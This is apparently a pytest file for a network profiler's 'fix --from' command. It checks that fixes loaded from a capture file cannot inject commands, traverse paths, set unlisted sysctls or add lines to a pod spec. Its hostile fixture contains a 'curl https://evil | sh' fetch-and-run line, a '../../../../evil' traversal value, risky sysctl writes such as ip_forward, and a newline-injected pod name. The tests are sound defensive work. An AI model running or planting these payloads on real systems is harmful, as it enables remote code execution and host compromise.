"""`netprof fix --from`: nothing taken from a capture file becomes a path, a command, a sysctl
name or a netns unchecked. The plan is worked out again by netprof's own detectors; snippet
files land only inside --out; sysctls are held to the list netprof's fixes can set."""
from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from profiler.analysis import detectors
from profiler.analysis.detectors import AnalysisContext, analyze
from profiler.analysis.findings import FINDING_KINDS, Change, Finding, Fix
from profiler.analysis.fixes import APPLICABLE_SYSCTLS, node_sysctl_fixes, pod_sysctl_fixes
from profiler.errors import NetprofError
from profiler.pod_listing import default_pod_directory
from profiler.fix.command import applicable, replan, snippet_path, write_snippets

ROOT = Path(__file__).parents[2]
NETPROF = Path(sys.executable).parent / "netprof"
FIXTURES = ROOT / "tests" / "tui" / "fixtures"
HOSTILE_SYSCTLS = ("net.ipv4.conf.all.accept_redirects", "net.ipv4.ip_forward", "net.core.bpf_jit_harden",
                   "net.ipv4.conf.all.rp_filter")


def _boot_id() -> str:
    return Path("/proc/sys/kernel/random/boot_id").read_text().strip()


def _capture(**changes) -> dict:
    doc = json.loads((FIXTURES / "drops.json").read_text())
    doc.update(changes)
    return doc


def _hostile_fix(kind: str = "socket-rcvbuf-drops") -> dict:
    """A finding as a hostile capture would carry it: node-scope writes of sysctls no netprof
    finding is about, a command, and a snippet named after a path-traversing kind."""
    return {
        "kind": kind, "severity": "critical", "pod": "receiver", "cpu": None, "summary": "harmless",
        "evidence": {}, "score": 1.0,
        "fixes": [
            {"scope": "node", "title": "tune", "rationale": "", "commands": ["curl https://evil | sh"],
             "changes": [{"kind": "sysctl", "key": key, "value": "1", "netns": None, "expected_current": None}
                         for key in HOSTILE_SYSCTLS],
             "persistence": "", "snippet": "#!/bin/sh\ncurl https://evil | sh\n"},
            {"scope": "pod", "title": "spec", "rationale": "", "commands": [], "changes": [],
             "persistence": "", "snippet": "echo owned\n"},
        ],
    }


def _netprof(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([str(NETPROF), *args], capture_output=True, text=True, timeout=120, cwd=ROOT)


# ------------------------------------------------------------------------ the CLI, end to end


def test_a_path_traversing_kind_writes_nothing_outside_out(tmp_path):
    out = tmp_path / "deep" / "a" / "b" / "c" / "out"
    doc = _capture(findings=[_hostile_fix("../../../../evil")])
    (tmp_path / "cap.json").write_text(json.dumps(doc))
    before = sorted(p for p in tmp_path.rglob("*"))
    result = _netprof("fix", "--from", str(tmp_path / "cap.json"), "--out", str(out),
                      "--journal-dir", str(tmp_path / "journal"))
    assert result.returncode == 1
    assert result.stderr.count("\n") == 1 and "$.findings[0].kind" in result.stderr, result.stderr
    assert "Traceback" not in result.stderr and result.stdout == ""
    assert sorted(p for p in tmp_path.rglob("*")) == before  # not even DIR was made


def test_a_foreign_captures_stored_fixes_are_never_planned(tmp_path):
    # The node's own boot id, so the identity check would let an --apply through: the only
    # defence is that the stored fixes are not used at all.
    doc = _capture(findings=[_hostile_fix()])
    doc["node"]["boot_id"] = _boot_id()
    (tmp_path / "cap.json").write_text(json.dumps(doc))
    out = tmp_path / "out"
    result = _netprof("fix", "--from", str(tmp_path / "cap.json"), "--out", str(out),
                      "--journal-dir", str(tmp_path / "journal"))
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr, result.stderr
    for key in HOSTILE_SYSCTLS:
        assert key not in result.stdout
    assert "curl" not in result.stdout and "harmless" not in result.stdout
    # The plan is what netprof's detectors find in the data: the receiver's full buffers.
    assert "socket-rcvbuf-drops" in result.stdout
    for path in out.iterdir():
        assert "curl" not in path.read_text() and "owned" not in path.read_text()
    assert not (tmp_path / "journal").exists()


# ------------------------------------------------------------------------ re-planning


def test_replan_ignores_stored_findings_and_uses_the_detectors():
    doc = _capture(findings=[_hostile_fix()])
    planned = replan(doc)
    assert [f.to_json() for f in planned] == [f.to_json() for f in analyze(doc, AnalysisContext())]
    changes = [c for f in planned for fix in f.fixes for c in fix.changes]
    assert changes and all(c.key in APPLICABLE_SYSCTLS for c in changes)


def test_replan_of_this_boot_enters_only_netns_paths_netprof_resolves(monkeypatch):
    doc = _capture()
    doc["node"]["boot_id"] = _boot_id()
    seen: list[AnalysisContext] = []
    monkeypatch.setattr("profiler.fix.command.analyze", lambda d, ctx: seen.append(ctx) or analyze(d, ctx))
    replan(doc)
    inodes = {pod["netns"] for pod in doc["pods"]}
    resolved = {inode: str(path) for inode, path in default_pod_directory().netns_paths().items() if inode in inodes}
    assert seen[0].netns_paths == resolved  # this node's own paths, for the capture's pods only
    assert seen[0].topology is not None


# ------------------------------------------------------------------------ closed sets


def test_fix_builders_refuse_sysctls_outside_the_list():
    with pytest.raises(ValueError, match="NODE_SYSCTLS_FIXED"):
        node_sysctl_fixes("net.ipv4.ip_forward", "0", "1", "t", "r")
    with pytest.raises(ValueError, match="POD_SYSCTLS_FIXED"):
        pod_sysctl_fixes("web", "/run/netns/web", "net.ipv4.conf.all.rp_filter", "1", "0", "t", "r")


def test_findings_refuse_kinds_the_detectors_do_not_make():
    with pytest.raises(ValueError, match="unknown finding kind"):
        Finding(kind="../../x", severity="info", summary="", evidence={})  # type: ignore[arg-type]


def test_every_kind_a_detector_names_is_in_the_closed_set():
    # One module per signal (profiler/analysis/detectors/): the kinds of them all.
    source = "".join(path.read_text() for path in sorted(Path(detectors.__file__).parent.glob("*.py")))
    named = set(re.findall(r'kind="([a-z0-9-]+)"', source))
    assert named == FINDING_KINDS


def test_applicable_keeps_listed_sysctls_and_files_only():
    listed = Change("sysctl", "net.core.somaxconn", "4096", netns="/run/netns/web")
    irq = Change("file", "/proc/irq/30/smp_affinity_list", "1")
    kept, refused = applicable((listed, irq, *(Change("sysctl", key, "1") for key in HOSTILE_SYSCTLS)))
    assert kept == (listed, irq)
    assert len(refused) == len(HOSTILE_SYSCTLS) and all("not a sysctl any netprof fix changes" in r for r in refused)


# ------------------------------------------------------------------------ snippet files


def test_snippets_are_named_from_checked_parts_inside_out(tmp_path):
    finding = Finding(kind="listen-overflow", severity="warning", summary="s", evidence={},
                      fixes=(Fix("pod", "t", "r", snippet="spec: {}\n"), Fix("app", "t", "r", snippet="listen()\n")))
    written = write_snippets([finding], tmp_path / "out")
    assert [p.name for p in written] == ["01-listen-overflow-1-pod.yaml", "01-listen-overflow-2-app.txt"]
    assert all(p.parent == tmp_path / "out" for p in written)
    with pytest.raises(NetprofError, match="unknown finding kind or scope"):
        snippet_path(tmp_path, 1, finding, 1, "../x")


def test_a_pod_name_cannot_add_lines_to_the_pod_spec_snippet():
    fixes = pod_sysctl_fixes("web\nspec:\n  hostNetwork: true", None, "net.core.somaxconn", "128", "4096", "t", "r")
    lines = fixes[0].snippet.splitlines()
    assert lines[0].startswith("# pod spec of web\\x0aspec:") and "hostNetwork" in lines[0]
    assert not any("hostNetwork" in line for line in lines[1:])
